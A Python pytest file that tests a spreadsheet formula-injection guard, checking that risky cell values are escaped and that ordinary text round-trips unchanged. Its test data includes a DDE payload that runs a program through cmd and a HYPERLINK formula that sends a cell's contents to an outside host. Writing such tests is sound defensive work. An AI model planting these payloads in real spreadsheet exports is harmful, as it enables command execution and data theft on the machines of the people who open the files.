import pytest

from operations.spreadsheet import guard, unguard

RISKY = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1)',
    "+49 30 1234567",
    "-1+1",
    "@SUM(A1)",
    "\tTab",
    "\rReturn",
    "\nLine",
    " =with a blank",
    "\uff1dfull width",
    "\uff0bfull width",
    "\uff0dfull width",
    "\uff20full width",
]
HARMLESS = ["", "Ann", "a=b", "O'Connor", "'quoted'", "''", "1+1", "x\n=1", "Ångström", "'"]


@pytest.mark.parametrize("text", RISKY)
def test_what_a_spreadsheet_would_run_is_guarded(text: str) -> None:
    assert guard(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert guard(text) == text
    assert unguard(text) == text


@pytest.mark.parametrize("text", [*RISKY, *HARMLESS, *(f"'{text}" for text in RISKY)])
def test_a_guarded_text_comes_back_as_it_was(text: str) -> None:
    assert unguard(guard(text)) == text
    assert unguard(guard(guard(text))) == guard(text)
